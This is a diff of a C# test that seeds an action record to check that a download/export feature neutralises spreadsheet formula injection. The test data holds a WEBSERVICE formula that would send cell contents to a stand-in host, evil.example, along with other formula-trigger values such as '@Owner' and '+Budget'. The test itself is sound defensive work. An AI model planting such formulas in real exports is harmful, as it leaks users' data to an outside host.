@@ -15,8 +15,11 @@ public sealed class DownloadTests : IDisposable
     {
         var reference = await _site.WithDbAsync(async db =>
         {
-            var action = await db.Set<PlanAction>().Include(a => a.Recommendation).OrderBy(a => a.Id).FirstAsync();
+            var action = await db.Set<PlanAction>().Include(a => a.Recommendation).Include(a => a.Owners).OrderBy(a => a.Id).FirstAsync();
             action.Text = "=WEBSERVICE(\"https://evil.example/?\"&A1)";
+            // Owners come from the one list of owners: an owner named like a formula, this action's only owner.
+            action.Owners.Clear();
+            action.Owners.Add(new ActionOwner { Name = "@Owner", Slug = "at-owner" });
             action.Owner = "@Owner";
             action.ProgressUpdate = "-1+1";
             action.Resource = "+Budget";
